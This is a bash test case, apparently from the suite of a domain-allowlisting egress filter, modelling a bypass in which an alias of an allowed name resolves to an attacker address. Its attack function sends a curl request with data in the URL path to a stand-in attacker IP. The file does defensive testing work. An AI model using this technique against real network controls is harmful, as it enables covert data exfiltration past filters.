# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
# The attacker's name is an alias of the allowed one, with an address of his own for it: only the name that was asked is bound.
title='An alias of an allowed name, with the address of the attacker for it' origin='RESEARCH §2.38; §6, bullfrog'
reason=name_not_bound forms='output forward run'
prepare() { h a ip addr replace 198.18.3.67/24 dev a0; }
attack() {
    client sh -c 'dig +tries=1 +timeout=10 +short @198.18.2.53 cross.odd.test; curl -sk --max-time 20 --resolve allowed.test:443:198.18.3.67 "https://allowed.test/$1"' sh "$1"
}
